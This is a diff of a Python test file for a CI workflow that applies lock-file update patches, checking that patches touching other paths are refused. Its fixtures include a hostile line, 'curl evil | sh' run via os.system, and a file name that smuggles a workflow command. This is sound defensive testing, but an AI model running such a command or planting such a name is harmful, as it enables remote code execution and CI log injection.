@@ -59,6 +59,16 @@ def _repo(tmp_path: Path) -> Path:
     return repo
 
 
+UPDATED_LOCK = "version = 1\n# updated\n"
+
+
+def _updated_checkout(tmp_path: Path) -> tuple[Path, Path]:
+    """A checkout (see _repo) whose lock the update changed, and the runner's temp directory."""
+    repo = _repo(tmp_path)
+    (repo / "cannery.lock").write_text(UPDATED_LOCK)
+    return repo, tmp_path / "runner"
+
+
 def _patch_of_worktree(repo: Path, runner: Path) -> Path:
     """The worktree's change against HEAD as `git diff --binary` writes it (renames found),
     in the artifact's place; the worktree is then reset, as a fresh checkout is."""
@@ -81,6 +91,11 @@ def _run(script: str, repo: Path, runner: Path) -> subprocess.CompletedProcess[s
     )
 
 
+def _apply(workflow: dict[str, Any], repo: Path, runner: Path) -> subprocess.CompletedProcess[str]:
+    """The job with the write token: its step that applies the patch handed on in ``runner``."""
+    return _run(_step(workflow, "lock-update-pr", APPLY), repo, runner)
+
+
 def _status(repo: Path) -> str:
     return _git(repo, "status", "--porcelain").stdout
 
@@ -96,15 +111,14 @@ def test_the_allowed_paths_are_the_lock_and_what_is_rendered_from_it(tmp_path: P
 def test_a_patch_of_the_lock_alone_applies(
     tmp_path: Path, workflow: dict[str, Any]
 ) -> None:
-    repo, runner = _repo(tmp_path), tmp_path / "runner"
-    (repo / "cannery.lock").write_text("version = 1\n# updated\n")
+    repo, runner = _updated_checkout(tmp_path)
     (repo / "dockerfiles" / "one.Dockerfile").write_text("FROM scratch\nLABEL a=b\n")
     _patch_of_worktree(repo, runner)
-    done = _run(_step(workflow, "lock-update-pr", APPLY), repo, runner)
+    done = _apply(workflow, repo, runner)
     assert done.returncode == 0, done.stdout + done.stderr
     staged = _git(repo, "diff", "--cached", "--name-only").stdout.split()
     assert staged == ["cannery.lock", "dockerfiles/one.Dockerfile"]
-    assert (repo / "cannery.lock").read_text() == "version = 1\n# updated\n"
+    assert (repo / "cannery.lock").read_text() == UPDATED_LOCK
 
 
 @pytest.mark.parametrize(
@@ -120,8 +134,7 @@ def test_a_patch_of_the_lock_alone_applies(
 def test_a_patch_touching_any_other_path_is_refused_naming_it(
     tmp_path: Path, workflow: dict[str, Any], change: str, named: list[str]
 ) -> None:
-    repo, runner = _repo(tmp_path), tmp_path / "runner"
-    (repo / "cannery.lock").write_text("version = 1\n# updated\n")
+    repo, runner = _updated_checkout(tmp_path)
     if change == "modify":
         (repo / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
     elif change == "workflow":
@@ -132,7 +145,7 @@ def test_a_patch_touching_any_other_path_is_refused_naming_it(
     patch = _patch_of_worktree(repo, runner)
     if change == "rename":
         assert "rename from src/app.py" in patch.read_text()
-    done = _run(_step(workflow, "lock-update-pr", APPLY), repo, runner)
+    done = _apply(workflow, repo, runner)
     assert done.returncode == 1, done.stdout + done.stderr
     errors = [line for line in done.stdout.splitlines() if line.startswith("::error::")]
     assert [e.split("touches ", 1)[1].split(",", 1)[0] for e in errors] == named
@@ -147,7 +160,7 @@ def test_a_refused_name_cannot_write_a_workflow_command(
     repo, runner = _repo(tmp_path), tmp_path / "runner"
     (repo / "src" / "x\n::warning::injected").write_text("x\n")
     _patch_of_worktree(repo, runner)
-    done = _run(_step(workflow, "lock-update-pr", APPLY), repo, runner)
+    done = _apply(workflow, repo, runner)
     assert done.returncode == 1
     lines = done.stdout.splitlines()
     assert "::warning::injected" not in lines
@@ -159,8 +172,7 @@ def test_the_first_job_hands_on_only_the_lock_and_rendered_files(
     tmp_path: Path, workflow: dict[str, Any]
 ) -> None:
     """What a source package's build left in the checkout is named and left out."""
-    repo, runner = _repo(tmp_path), tmp_path / "runner"
-    (repo / "cannery.lock").write_text("version = 1\n# updated\n")
+    repo, runner = _updated_checkout(tmp_path)
     (repo / "build").mkdir()
     (repo / "build" / "junk.txt").write_text("left by a build backend\n")
     done = _run(_step(workflow, "lock-update", MAKE), repo, runner)
